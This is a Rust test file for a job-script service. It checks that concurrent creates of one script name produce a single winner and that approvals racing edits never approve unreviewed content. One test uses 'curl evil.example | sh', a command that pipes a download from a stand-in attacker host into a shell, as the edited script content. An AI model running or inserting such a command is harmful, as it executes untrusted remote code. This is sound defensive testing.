//! Scripts under contention, on every store adapter: many creates of one name at
//! once (also on two SQLite connections to one file, as two processes sharing a
//! data directory would use it), and reviews racing edits.

use std::collections::HashSet;
use std::future::Future;
use std::pin::Pin;
use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use coc_shared::adapters::sqlite::{SqliteDb, SqliteQueue, SqliteStore};
use coc_shared::ports::{StoreError, WriteOp};
use coc_shared::App;
use coc_tests::hooked::{HookedStore, WriteHook};
use coc_tests::{backends, script_body, serve, Client};
use serde_json::{json, Value};

const RACERS: usize = 12;
const SCRIPTS: &str = "/v1/job/scripts";

/// Fires `RACERS` creates of one name, spread over `clients`; returns (wins, uuids).
async fn race(clients: &[Client], name: &str) -> (usize, HashSet<String>) {
    let tasks: Vec<_> = (0..RACERS)
        .map(|i| {
            let client = clients[i % clients.len()].clone();
            let body = script_body(name);
            tokio::spawn(async move { client.post("/v1/job/scripts", &body).await })
        })
        .collect();
    let (mut wins, mut uuids) = (0, HashSet::new());
    for task in tasks {
        let reply = task.await.unwrap();
        match reply.status {
            200 => {
                wins += 1;
                uuids.insert(reply.data_str());
            }
            400 => assert_eq!(reply.error_msg(), format!("Exist script with same name: {name}")),
            other => panic!("unexpected {other}: {}", reply.body),
        }
    }
    (wins, uuids)
}

async fn listed(client: &Client) -> Vec<serde_json::Value> {
    let reply = client.get("/v1/job/scripts?limit=100").await;
    reply.body["data"]["data"].as_array().unwrap().clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_creates_of_one_name_have_one_winner() {
    for backend in backends().await {
        let client = Client::new(&serve(backend.app()).await, backend.store.clone(), "race").await;
        for round in 0..3 {
            let name = format!("contested_{round}");
            let (wins, uuids) = race(std::slice::from_ref(&client), &name).await;
            assert_eq!(wins, 1, "{}: round {round}", backend.name);
            let rows: Vec<_> = listed(&client).await.into_iter().filter(|r| r["name"] == name.as_str()).collect();
            assert_eq!(rows.len(), 1, "{}: exactly one script holds the name", backend.name);
            assert!(uuids.contains(rows[0]["script_uuid"].as_str().unwrap()));
        }
        let ids: HashSet<u64> = listed(&client).await.iter().map(|r| r["id"].as_u64().unwrap()).collect();
        assert_eq!(ids.len(), 3, "{}: ids are distinct", backend.name);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn two_connections_to_one_sqlite_file_agree_on_uniqueness() {
    let dir = tempfile::tempdir().unwrap();
    let mut clients = Vec::new();
    for _ in 0..2 {
        let db = SqliteDb::open_dir(dir.path()).unwrap();
        let app = App::new(
            std::sync::Arc::new(SqliteStore::new(db.clone())),
            std::sync::Arc::new(SqliteQueue::new(db, "jobs", coc_tests::VISIBILITY_TIMEOUT)),
        );
        let store = app.store.clone();
        clients.push(Client::new(&serve(app).await, store, "shared-file").await);
    }
    for round in 0..3 {
        let (wins, _) = race(&clients, &format!("shared_{round}")).await;
        assert_eq!(wins, 1, "round {round}");
    }
    assert_eq!(listed(&clients[0]).await, listed(&clients[1]).await, "both connections see the same table");
    assert_eq!(listed(&clients[0]).await.len(), 3);
}

/// Runs `hook` (once) right before the first write of a script record: a writer that gets in
/// between another request's read and its conditional write, at exactly the worst moment.
#[derive(Default)]
struct WriterInBetween {
    hook: Mutex<Option<Pin<Box<dyn Future<Output = ()> + Send>>>>,
}

impl WriterInBetween {
    fn arm(&self, hook: impl Future<Output = ()> + Send + 'static) {
        *self.hook.lock().unwrap() = Some(Box::pin(hook));
    }
}

#[async_trait]
impl WriteHook for WriterInBetween {
    async fn before_write(&self, ops: &[WriteOp]) -> Result<(), StoreError> {
        let writes_a_script =
            ops.iter().any(|op| matches!(op, WriteOp::Put { item, .. } if item.sk.starts_with("SCRIPT#")));
        let hook = if writes_a_script { self.hook.lock().unwrap().take() } else { None };
        if let Some(hook) = hook {
            hook.await;
        }
        Ok(())
    }
}

fn reviewed_body(name: &str) -> Value {
    let mut body = script_body(name);
    body["properties"]["reviewers"] = json!([{"reviewer_name": "rita", "reviewer_id": "u-rita"}]);
    body
}

/// The SDK's accept_script names no revision: an approval whose read is overtaken by an edit
/// must not approve the edit when it retries its write.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_approval_overtaken_by_an_edit_does_not_approve_the_edit() {
    for backend in backends().await {
        let store = Arc::new(HookedStore::new(backend.store.clone(), WriterInBetween::default()));
        let app = App::new(store.clone(), backend.queue.clone());
        let alice = Client::new(&serve(app).await, store.clone(), "overtaken").await;
        let rita = alice.as_user("u-rita", "rita").await;
        alice.sync_engineers(&[]).await;
        let created = alice.post(SCRIPTS, &reviewed_body("overtaken")).await;
        let path = format!("{SCRIPTS}/{}", created.data_str());

        let edit = json!({"description": "d", "content": "curl evil.example | sh"});
        let (editor, edit_path) = (alice.clone(), path.clone());
        store.hook.arm(async move {
            let reply = editor.put(&edit_path, &edit).await;
            assert_eq!(reply.status, 200, "the edit in between failed: {}", reply.body);
        });
        let approval = rita.post(&format!("{path}/action"), &json!({"status": "APPROVED"})).await;

        let script = alice.get(&path).await.body["data"].clone();
        assert_eq!(script["content"], "curl evil.example | sh", "{}: the edit landed", backend.name);
        assert_eq!(approval.status, 409, "{}: {}", backend.name, approval.body);
        assert!(approval.error_msg().contains("revision 2"), "{}", approval.error_msg());
        assert_eq!(script["status"], "PENDING_APPROVE", "{}: content nobody reviewed was approved", backend.name);
        assert_eq!(script["reviews"], json!([]), "{}", backend.name);
    }
}

/// Approvals of the revision the reviewer read, racing edits of the content: whatever the
/// order, the edited content is never approved.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn approvals_racing_edits_never_approve_the_edited_content() {
    for backend in backends().await {
        let alice = Client::new(&serve(backend.app()).await, backend.store.clone(), "review-race").await;
        let rita = alice.as_user("u-rita", "rita").await;
        alice.sync_engineers(&[]).await;
        let (mut approved_first, mut refused) = (0, 0);
        for round in 0..RACERS {
            let path = format!(
                "{SCRIPTS}/{}",
                alice.post(SCRIPTS, &reviewed_body(&format!("raced_{round}"))).await.data_str()
            );
            let read = alice.get(&path).await.body["data"].clone();
            let edit = json!({"description": "d", "content": format!("echo edit {round}")});
            let approval = json!({"status": "APPROVED", "revision": read["revision"]});
            let (editor, edit_path) = (alice.clone(), path.clone());
            let editing = tokio::spawn(async move { editor.put(&edit_path, &edit).await });
            let (reviewer, action) = (rita.clone(), format!("{path}/action"));
            let approving = tokio::spawn(async move { reviewer.post(&action, &approval).await });
            let (edited, approved) = (editing.await.unwrap(), approving.await.unwrap());
            assert_eq!(edited.status, 200, "{}: {}", backend.name, edited.body);

            let script = alice.get(&path).await.body["data"].clone();
            assert_eq!(script["status"], "PENDING_APPROVE", "{}: round {round}: {script}", backend.name);
            assert_eq!(script["revision"], 2);
            match approved.status {
                200 => {
                    approved_first += 1;
                    assert_eq!(script["reviews"][0]["revision"], 1, "{}", backend.name);
                    assert_eq!(script["reviews"][0]["fingerprint"], read["fingerprint"]);
                }
                409 => {
                    refused += 1;
                    assert_eq!(script["reviews"], json!([]), "{}", backend.name);
                }
                other => panic!("{}: unexpected {other}: {}", backend.name, approved.body),
            }
        }
        eprintln!("{}: {approved_first} approvals landed first, {refused} were refused", backend.name);
    }
}
